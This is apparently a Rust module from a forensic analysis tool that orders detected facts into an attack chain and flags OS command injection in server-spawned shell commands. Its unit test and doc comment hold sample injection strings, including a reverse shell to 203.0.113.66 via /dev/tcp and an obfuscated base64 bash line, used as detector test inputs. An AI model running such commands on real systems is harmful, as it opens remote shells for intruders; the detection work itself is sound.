//! The attack chain: way in, execution, persistence, command and control, impact, cover-up
//! (escape and lateral movement where the evidence shows them), each one fact with its
//! time or an honest bound and its proof, in time order. The way in is an exploit that
//! succeeded, or, when no logged request explains it, the command a server process ran (a
//! web server spawning `sh -c 'ping ...;bash -i ...'` is command injection). A stage that
//! happened before the way in is not part of this chain.

use serde::Serialize;

use super::exploits::contains_host;
use crate::model::{ContainerRef, Fact, Family, Locator, Owner, Role, Timestamp, When};

/// Proof locators shown per stage.
const PROOF_PER_STAGE: usize = 4;
/// Tolerance when comparing a stage with the way in (minute-precision process starts).
const SKEW_SECS: i64 = 60;

/// One stage of the chain.
#[derive(Clone, Debug, Serialize, PartialEq, Eq)]
pub struct ChainStage {
    /// The container whose chain it is (name, else short id); None: the bundle's.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub container: Option<String>,
    /// `way in`, `execution`, `persistence`, `command and control`, `impact`, `cover-up`,
    /// `escape`, `lateral movement`.
    pub stage: &'static str,
    pub title: String,
    /// Lead rule of the fact, and its index in `findings`.
    pub rule: String,
    pub fact: usize,
    pub when: When,
    pub proof: Vec<Locator>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub note: Option<String>,
}

/// A request an attacker host sent (from the log records), for citing the request that
/// most likely carried an injection no signature matched.
#[derive(Clone, Debug)]
pub(crate) struct Request {
    pub client: String,
    pub time: Timestamp,
    pub line: String,
    pub locator: Locator,
}

fn has(f: &Fact, pats: &[&str]) -> bool {
    f.rules.iter().any(|r| pats.iter().any(|p| r.contains(p)))
}

fn stage_of(f: &Fact, stage: &str) -> bool {
    let cat = f.category.as_str();
    if f.kind.family == Family::Exposure || f.kind.role == Role::Attempts {
        return false;
    }
    match stage {
        "execution" => {
            cat == "execution"
                || has(f, &["proc.lineage.", "proc.download-exec", "proc.interactive-shell", "log.shell."])
        }
        "persistence" => {
            cat == "persistence"
                || has(f, &["file.persistence.", "file.account.", "file.webshell.", "webshell-used"])
        }
        "command and control" => {
            cat == "command-and-control" || has(f, &["proc.revshell", "server-shell-net"])
        }
        "impact" => cat == "impact" || has(f, &["miner"]),
        // The fact itself is the cover-up (a timestomped cron job is persistence first).
        "cover-up" => ["antiforensics", "timestomp", "log-wipe"].iter().any(|p| f.rule.contains(p)),
        "escape" => cat == "privilege-escalation" && f.kind.family.is_process(),
        "lateral movement" => cat == "lateral-movement",
        _ => false,
    }
}

/// Upper end of a time (the time, else the bound after which it cannot be).
fn upper(w: &When) -> Option<Timestamp> {
    w.time.or(w.not_after)
}

fn lower(w: &When) -> Option<Timestamp> {
    w.time.or(w.not_before)
}

/// The chain for the bundle's facts (`findings` order), with the attacker's requests.
/// One chain per owner: each container's facts make its own chain (a stage of one container
/// never follows another's way in); facts tied to no container make the bundle's.
pub(crate) fn build_per_owner(facts: &[Fact], requests: &[Request]) -> Vec<ChainStage> {
    let mut owners: Vec<Option<ContainerRef>> =
        facts.iter().map(|f| f.owner.as_ref().and_then(Owner::as_container)).collect();
    owners.sort();
    owners.dedup();
    let mut out = vec![];
    for owner in owners {
        let index: Vec<usize> = (0..facts.len())
            .filter(|&i| facts[i].owner.as_ref().and_then(Owner::as_container) == owner)
            .collect();
        let mine: Vec<Fact> = index.iter().map(|&i| facts[i].clone()).collect();
        for mut s in build(&mine, requests) {
            s.fact = index[s.fact];
            s.container = owner.as_ref().map(|c| c.handle().to_string());
            out.push(s);
        }
    }
    out
}

pub(crate) fn build(facts: &[Fact], requests: &[Request]) -> Vec<ChainStage> {
    let no_time = When::unknown("no time in the evidence");
    let when = |f: &Fact| f.when.clone().unwrap_or_else(|| no_time.clone());
    let key = |w: &When| (w.key().is_none(), w.key());
    // 1. The way in: an exploit that succeeded, or an identity exec'ing into the pod
    // through the API server (the audit log's record of it).
    let succeeded = facts
        .iter()
        .enumerate()
        .filter(|(_, f)| f.outcome == Some("succeeded") || f.kinds.iter().any(|k| k.role == Role::PodExec))
        .min_by_key(|(i, f)| (key(&when(f)), *i));
    // An inferred way in is the command the server ran: it is also the execution.
    let (way_in, inferred, mut stages) = match succeeded {
        Some((i, f)) => (i, false, vec![stage("way in", i, f, when(f), None)]),
        None => match inferred_way_in(facts, requests) {
            Some(s) => (s.fact, true, vec![s]),
            None => return vec![],
        },
    };
    let start = lower(&stages[0].when);
    let after_way_in = |w: &When| match (upper(w), start) {
        (Some(u), Some(s)) => u.unix_secs() + SKEW_SECS >= s.unix_secs(),
        _ => true,
    };
    // A stage known only to follow the container's start is placed by its upper bound, or
    // last when it has none.
    let order = |w: &When| {
        let k = match (lower(w), start) {
            (Some(l), Some(s)) if l < s => upper(w),
            (l, _) => l.or(upper(w)),
        };
        (k.is_none(), k)
    };
    // 2. Each later stage: its earliest fact after the way in.
    for name in [
        "execution",
        "persistence",
        "command and control",
        "impact",
        "cover-up",
        "escape",
        "lateral movement",
    ] {
        let pick = facts
            .iter()
            .enumerate()
            .filter(|(i, f)| {
                stage_of(f, name)
                    && (*i != way_in || name == "command and control" || (inferred && name == "execution"))
            })
            .filter(|(_, f)| after_way_in(&when(f)))
            .min_by_key(|(i, f)| (order(&when(f)), *i));
        if let Some((i, f)) = pick {
            stages.push(stage(name, i, f, when(f), None));
        }
    }
    if stages.len() < 2 && stages[0].stage != "way in" {
        return vec![];
    }
    // Time order, the way in first.
    let head = stages.remove(0);
    stages.sort_by_key(|s| order(&s.when));
    stages.insert(0, head);
    stages
}

fn stage(name: &'static str, i: usize, f: &Fact, when: When, note: Option<String>) -> ChainStage {
    ChainStage {
        container: None,
        stage: name,
        title: f.title.clone(),
        rule: f.rule.clone(),
        fact: i,
        when,
        proof: f.evidence.iter().take(PROOF_PER_STAGE).cloned().collect(),
        note,
    }
}

/// No exploit request explains the compromise, but a server process ran a command: that
/// command is the way in; the last request from the host it calls back to is cited.
fn inferred_way_in(facts: &[Fact], requests: &[Request]) -> Option<ChainStage> {
    let (i, f) = facts
        .iter()
        .enumerate()
        .filter(|(_, f)| f.kinds.iter().any(|k| k.role == Role::ServerShell))
        .min_by_key(|(i, f)| {
            (f.when.as_ref().and_then(When::key).is_none(), f.when.as_ref().and_then(When::key), *i)
        })?;
    let cmd = f
        .subject
        .as_deref()
        .and_then(|s| s.strip_prefix("pid "))
        .and_then(|s| s.split_once(' '))
        .map(|(_, c)| c);
    let injection = cmd.is_some_and(looks_injected);
    let when = f.when.clone().unwrap_or_else(|| When::unknown("start of the process it ran"));
    let bound = upper(&when);
    let carrier = requests
        .iter()
        .filter(|r| {
            contains_host(&f.summary, &r.client)
                || f.subject.as_deref().is_some_and(|s| contains_host(s, &r.client))
        })
        .filter(|r| bound.is_none_or(|b| r.time <= b))
        .max_by_key(|r| r.time);
    let mut s = stage("way in", i, f, when, None);
    s.title = if injection {
        format!("OS command injection through the web application: {}", f.title)
    } else {
        format!("Code execution through a server process: {}", f.title)
    };
    let mut note =
        "no logged request matched an exploit signature; the way in is read from the process the server ran"
            .to_string();
    if let Some(r) = carrier {
        note.push_str(&format!(
            "; the last request from {} before it: {} at {}",
            r.client,
            r.line,
            r.time.to_iso_seconds()
        ));
        s.proof.insert(0, r.locator.clone());
    }
    s.note = Some(note);
    Some(s)
}

/// `sh -c 'ping -c 4 127.0.0.1;bash ...'`: an application's own command with another
/// joined to it by `;`, `&&`, `||`, `|`, a newline, backticks or `$(`.
pub(crate) fn looks_injected(cmd: &str) -> bool {
    let Some((_, script)) = cmd.split_once(" -c ") else { return false };
    let script = script.trim().trim_matches(|c| c == '\'' || c == '"');
    let first = script.split_whitespace().next().unwrap_or("");
    const APP_TOOLS: &[&str] = &[
        "ping",
        "nslookup",
        "host",
        "dig",
        "traceroute",
        "whois",
        "echo",
        "ls",
        "cat",
        "convert",
        "ffmpeg",
        "ps",
        "df",
        "uptime",
        "nc",
        "curl",
        "wget",
    ];
    APP_TOOLS.contains(&first.rsplit('/').next().unwrap_or(first))
        && [";", "&&", "||", "|", "\n", "`", "$("].iter().any(|sep| script.contains(sep))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn injection_shapes() {
        assert!(looks_injected(
            "sh -c ping  -c 4 127.0.0.1;bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'"
        ));
        assert!(looks_injected("sh -c nslookup x.com && id"));
        assert!(!looks_injected("bash -c {echo,YmFz}|{base64,-d}|{bash,-i}"));
        assert!(!looks_injected("/bin/sh -c /usr/local/bin/start.sh"));
    }
}
